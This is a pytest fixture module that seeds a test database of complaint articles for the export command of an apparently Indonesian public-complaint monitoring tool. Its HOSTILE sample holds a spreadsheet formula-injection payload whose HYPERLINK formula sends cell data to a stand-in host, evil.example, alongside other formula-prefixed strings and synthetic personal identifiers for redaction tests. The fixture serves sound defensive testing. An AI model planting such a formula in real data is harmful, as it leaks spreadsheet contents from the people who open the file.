"""A small real database for the export tests, filled through the storage API as the crawler,
the importer and reviewers fill it, and the ``pantau export`` command run on it.

Items (ids in :data:`ExportSite.ids`):

- ``jalan``: news, Tiris/Ranuagung, infrastruktur → Dinas PUPR, approved then entered into LAPOR!
  (PBL-2611-0042); its text carries a NIK, a KK number, phone numbers, an e-mail address and the
  near-misses that must stay (dates, money, long numbers, postal code, RT/RW).
- ``bansos``: news, Kraksaan; the model said ``lainnya``/Diskominfo, the reviewer approved it as
  ``bansos``/``Dinas Sosial`` (short name): the reviewer's labels must win.
- ``hostile``: a post added by hand (import), kesehatan in Paiton, status new; every text field
  starts like a formula.
- ``tweet``: X, rejected, no category, tab- and plus-prefixed text.
- ``listrik``: news, energi → PLN (outside the kabupaten's authority), approved, no desa.
- ``undated``: news without a publication date, status new, no labels at all.
"""

from __future__ import annotations

import json
import subprocess
import sys
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from tests.factories import article


WIB = timezone(timedelta(hours=7))
WITA = timezone(timedelta(hours=8))
PUPR = "Dinas Pekerjaan Umum dan Penataan Ruang Kabupaten Probolinggo"
DINSOS = "Dinas Sosial Kabupaten Probolinggo"
DINKES = "Dinas Kesehatan Kabupaten Probolinggo"
DISKOMINFO = "Dinas Komunikasi, Informatika, Statistik dan Persandian Kabupaten Probolinggo"

PERSONAL = {
    "nik": "3513014107890002",
    "nik_labelled": "NIK 3513012345670001",
    "kk": "3513011203850001",
    "phone": "0812-3456-7890",
    "phone_intl": "+62 812 3456 7891",
    "email": "warga.tiris@gmail.com",
}
NEAR_MISSES = ("12/11/2026", "2026-11-12", "Rp 1.500.000", "1500000", "123456789012345", "12345678901234567",
               "kode pos 67282", "RT 03/RW 05", "RT/RW 003/005")
JALAN_TEXT = (
    "Warga Desa Ranuagung, Kecamatan Tiris, mengeluhkan jalan berlubang sepanjang 2 km. "
    f"Pelapor dengan NIK {PERSONAL['nik']} ({PERSONAL['nik_labelled']}, No. KK: {PERSONAL['kk']}) bisa dihubungi di "
    f"{PERSONAL['phone']} atau {PERSONAL['phone_intl']}, e-mail {PERSONAL['email']}. "
    "Kerusakan tercatat sejak 12/11/2026 (2026-11-12); perbaikan sementara memakan Rp 1.500.000 "
    "(1500000 rupiah). Nomor tiket 123456789012345, resi 12345678901234567, kode pos 67282, "
    "RT 03/RW 05 dan RT/RW 003/005."
)
HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")',
    "text": "@SUM(1+1) warga Paiton mengeluh antrean puskesmas",
    "author": "-2+3",
}
TWEET = {"title": "\t=1+2 tweet", "text": "+1 setuju jalan Tongas rusak, min @pemkab"}


def classification(category, kecamatan=None, desa=None, opd=None, complaint=True, region_code=None,
                   in_jurisdiction=True):
    return {"is_complaint": complaint, "complaint_score": 0.91 if complaint else 0.12, "category": category,
            "kecamatan": kecamatan, "desa": desa, "region_code": region_code,
            "in_jurisdiction": in_jurisdiction if complaint else None, "opd": opd, "model_version": "uji-1"}


@dataclass
class ExportSite:
    url: str
    work: Path
    ids: dict[str, int]
    repo: object

    def env(self) -> dict[str, str]:
        from tests.crawlutil import crawl_env

        return crawl_env(self.work, db_url=self.url)


def build_site(work: Path, url: str | None = None) -> ExportSite:
    from review.security import hash_password
    from storage.db import upgrade
    from storage.repo import Repository

    url = url or f"sqlite:///{work / 'pantau.db'}"
    upgrade(url)
    repo = Repository(url)
    for name, role in (("admin", "admin"), ("rina", "reviewer"), ("vera", "viewer"), ("lama", "admin")):
        repo.add_user(name, hash_password("sandi-ekspor-1"), role)
    lama = repo.user_for_login("lama")
    repo.update_user(lama["id"], active=False)

    ids = {}
    ids["jalan"] = repo.store_article(article(
        "jalan", source="kabarbromo", kind="news",
        url="https://kabar.example/news/jalan", title="Jalan rusak di Desa Ranuagung, Tiris", text=JALAN_TEXT,
        published_at=datetime(2026, 11, 20, 9, 15, tzinfo=WITA),
        classification=classification("infrastruktur", "Tiris", "Ranuagung", PUPR, region_code="35.13.07.2008"))).item_id
    ids["bansos"] = repo.store_article(article(
        "bansos", source="kabarbromo", kind="news",
        url="https://kabar.example/news/bansos", title="BPNT warga Kraksaan belum cair",
        text="Puluhan keluarga penerima manfaat di Kraksaan belum menerima BPNT sejak tiga bulan.",
        published_at=datetime(2026, 11, 12, 23, 30, tzinfo=WIB),
        classification=classification("lainnya", "Kraksaan", None, DISKOMINFO, region_code="35.13.14"))).item_id
    ids["hostile"] = repo.store_article(article(
        "hostile", source="import:instagram", kind="import",
        url="https://kabar.example/import/hostile", title=HOSTILE["title"], text=HOSTILE["text"],
        author=HOSTILE["author"], published_at=datetime(2026, 11, 18, 7, 0, tzinfo=WIB),
        classification=classification("kesehatan", "Paiton", None, DINKES, region_code="35.13.12"))).item_id
    ids["tweet"] = repo.store_article(article(
        "tweet", source="x-probolinggo", kind="x",
        url="https://kabar.example/x/tweet", title=TWEET["title"], text=TWEET["text"], author="@wargatongas",
        published_at=datetime(2026, 11, 19, 12, 0, tzinfo=WIB), classification=classification(None, complaint=False))).item_id
    ids["listrik"] = repo.store_article(article(
        "listrik", source="kabarbromo", kind="news",
        url="https://kabar.example/news/listrik", title="Listrik padam dua hari di Gending",
        text="Warga Kecamatan Gending mengeluhkan pemadaman listrik selama dua hari tanpa pemberitahuan.",
        published_at=datetime(2026, 11, 21, 16, 45, tzinfo=WIB),
        classification=classification("energi", "Gending", None, "PT PLN (Persero)",
                             region_code="35.13.18"))).item_id
    ids["undated"] = repo.store_article(article(
        "undated", source="kabarbromo", kind="news",
        url="https://kabar.example/news/undated", title="Pengumuman lomba desa", text="Lomba desa digelar.",
        published_at=None, classification=None,
        harvested_at=datetime(2026, 11, 25, 3, 5, tzinfo=timezone.utc))).item_id

    repo.record_review(ids["jalan"], "rina", "approve", after={})
    repo.enter_into_lapor(ids["jalan"], "rina", "PBL-2611-0042", judul="Jalan rusak", isi="…", kategori=None,
                          instansi=None)
    repo.record_review(ids["bansos"], "rina", "approve", after={"category": "bansos", "opd": "Dinas Sosial"})
    repo.record_review(ids["tweet"], "rina", "reject", after={"reason": "not_complaint"})
    repo.record_review(ids["listrik"], "admin", "approve", after={})
    return ExportSite(url, work, ids, repo)


@pytest.fixture
def site(tmp_path):
    built = build_site(tmp_path)
    yield built
    built.repo.close()


def run_export(site: ExportSite, *args: str) -> subprocess.CompletedProcess:
    """``pantau export --db URL ...`` as a user runs it, answered in this process
    (tests/crawlutil.py's ``pantau_in_process``; test_cli.py runs the export as a real process)."""
    from tests.crawlutil import pantau_in_process

    return pantau_in_process("export", "--db", site.url, *args, env=site.env(), cwd=site.work)


def jsonl(result: subprocess.CompletedProcess) -> list[dict]:
    assert result.returncode == 0, result.stderr
    return [json.loads(line) for line in result.stdout.splitlines() if line.strip()]


__all__ = ["DINKES", "DINSOS", "DISKOMINFO", "HOSTILE", "JALAN_TEXT", "NEAR_MISSES", "PERSONAL", "PUPR",
           "TWEET", "ExportSite", "build_site", "jsonl", "run_export", "site"]
